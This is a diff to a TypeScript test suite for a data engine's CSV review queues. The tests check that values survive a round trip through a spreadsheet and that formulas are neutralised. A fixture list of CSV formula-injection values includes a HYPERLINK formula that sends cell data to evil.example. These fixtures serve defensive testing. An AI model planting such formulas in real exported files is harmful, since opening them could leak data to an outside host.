@@ -9,6 +9,7 @@ import { RowReportWriter } from '../../../engine/util/row-report-writer.js';
 import { QueueWriter, readQueues, queuePath, resolutionKey } from '../../../engine/run/queue-resolutions.js';
 import type { QueueRow } from '../../../engine/run/queue-resolutions.js';
 import { InputError } from '../../../engine/util/input-error.js';
+import { readSpreadsheetCsv } from '../../../engine/util/spreadsheet-csv.js';
 
 /** Values a spreadsheet would run as formulas or change when saving back, signed amounts it keeps exactly, and typed quotes. */
 const HOSTILE = ['=1+2', '+44 20 7946 0000', '+7', '-5+3', '-A1', '-1,234.50', '-007', '-2.50', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
@@ -53,12 +54,14 @@ describe('CSVs written for people', () => {
   it('given a queue written and read back, every value comes back exactly, leading quotes included', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'queue-'));
     await writeQueue(dir, VALUES);
-    const { rows, resolutions } = readQueues(dir);
-    const read = rows.get('orphans') ?? [];
+    const read = queueFile(dir, 'orphans');
     expect(read).toHaveLength(VALUES.length);
     expect(read.map((r) => r['value'])).toEqual(VALUES);
     expect(read.map((r) => r['source_key'])).toEqual(VALUES);
-    expect(resolutions.size).toBe(VALUES.length - 1); // the blank answer leaves its row held
+    const { answered, resolutions } = readQueues(dir);
+    // The blank answer leaves its row held: it is neither an answer nor kept as one.
+    expect(resolutions.size).toBe(VALUES.length - 1);
+    expect(answered.get('orphans')?.map((r) => r['value'])).toEqual(VALUES.filter((v) => v !== ''));
   });
 });
 
@@ -82,8 +85,8 @@ describe('queue files saved again by a spreadsheet', () => {
     const values = ['=1+2', '-5', '@x', "'kept", 'Zoë & Søn'];
     await writeQueue(dir, values);
     excelSave(dir, encode);
-    const { rows, resolutions } = readQueues(dir);
-    const read = rows.get('orphans') ?? [];
+    const { answered, resolutions } = readQueues(dir);
+    const read = answered.get('orphans') ?? [];
     expect(read.map((r) => r['value'])).toEqual(values);
     expect(read[0]?.['resolution']).toBe('Café Müller €');
     expect(resolutions.get(['contacts', '=1+2', 'Company ID'].join('\u0000'))).toBe('Café Müller €');
@@ -114,15 +117,16 @@ describe('the orphan queue of a rerun', () => {
     const first = new QueueWriter(dir, 'orphans', new Map());
     [row('A', '100'), row('B', '200'), row('C', '')].forEach((r) => first.write(r));
     await first.close();
-    const { rows, resolutions } = readQueues(dir);
+    const { answered, resolutions } = readQueues(dir);
     expect(resolutions.size).toBe(2);
+    expect(answered.get('orphans')?.map((r) => r['source_key'])).toEqual(['A', 'B']);
 
     // The rerun holds A again (its answer named nothing), C (still unanswered) and a new row D; B's answer worked.
     const next = new QueueWriter(dir, 'orphans', resolutions);
     [row('A', ''), row('C', ''), row('D', '')].forEach((r) => next.write(r));
-    next.keepResolved(rows.get('orphans') ?? []);
+    next.keepResolved(answered.get('orphans') ?? []);
     await next.close();
-    const after = readQueues(dir).rows.get('orphans') ?? [];
+    const after = queueFile(dir, 'orphans');
     expect(after.map((r) => [r['source_key'], r['resolution']])).toEqual([['A', ''], ['C', ''], ['D', ''], ['B', '200']]);
     // Only answered cells are remembered, not every row held: the unanswered C and D cost no memory.
     expect(next.held).toEqual(new Set([resolutionKey('contacts', 'A', 'Company ID')]));
@@ -144,7 +148,7 @@ describe('the owner queue', () => {
 
     const text = readFileSync(queuePath(dir, 'owners'), 'utf8');
     expect(text.split('\n')[0]).toBe('owner,records,loads,first_row,reason,resolution');
-    const rows = readQueues(dir).rows.get('owners') ?? [];
+    const rows = queueFile(dir, 'owners');
     expect(rows.map((r) => [r['owner'], r['records'], r['loads'], r['first_row']])).toEqual([
       ['Jo Blogs', '5', 'contacts: 3; opportunities: 2', 'contacts.csv:2'],
       ['=evil()', '2', 'contacts: 2', 'contacts.csv:9'],
@@ -160,14 +164,19 @@ describe('the owner queue', () => {
     const text = readFileSync(queuePath(dir, 'owners'), 'utf8').replace(/,$/m, ',jo@northwind.example');
     writeFileSync(queuePath(dir, 'owners'), text);
 
-    const { rows, resolutions } = readQueues(dir);
+    const { answered, resolutions } = readQueues(dir);
     expect([...resolutions]).toEqual([['owner\u0000jo blogs', 'jo@northwind.example']]);
-    const next = new QueueWriter(dir, 'owners', new Map());
-    next.keepResolved(rows.get('owners') ?? []);
+    const next = new QueueWriter(dir, 'owners', resolutions);
+    next.keepResolved(answered.get('owners') ?? []);
     await next.close();
-    expect(readQueues(dir).rows.get('owners')?.map((r) => [r['owner'], r['resolution']])).toEqual([['Jo Blogs', 'jo@northwind.example']]);
+    expect(queueFile(dir, 'owners').map((r) => [r['owner'], r['resolution']])).toEqual([['Jo Blogs', 'jo@northwind.example']]);
   });
 });
+
+/** Every row of a queue file, as the engine reads its cells (readQueues keeps only the answered ones). */
+function queueFile(dir: string, queue: 'orphans' | 'owners'): Record<string, string>[] {
+  return readSpreadsheetCsv(readFileSync(queuePath(dir, queue)));
+}
 
 function readSpreadsheetCsvRaw(path: string): Record<string, string>[] {
   // The cells as a spreadsheet sees them: CSV quoting undone, no leading quote removed.
